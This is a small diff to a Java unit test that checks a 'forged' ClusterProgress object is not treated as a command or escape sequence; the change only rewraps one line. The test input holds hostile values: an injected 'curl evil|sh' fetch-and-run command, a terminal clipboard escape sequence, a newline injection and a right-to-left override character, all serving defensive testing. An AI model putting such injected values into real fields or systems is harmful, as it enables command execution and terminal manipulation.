@@ -66,7 +66,8 @@ class ModelTest {
   void aReportedClusterIsNoCommandAndNoEscapeSequence() {
     // when
     ClusterProgress forged =
-        new ClusterProgress("x; curl evil|sh #", "a\u001b]52;c;\u0007", "Re\njected", null, "m\u202e");
+        new ClusterProgress(
+            "x; curl evil|sh #", "a\u001b]52;c;\u0007", "Re\njected", null, "m\u202e");
 
     // then
     assertThat(forged)
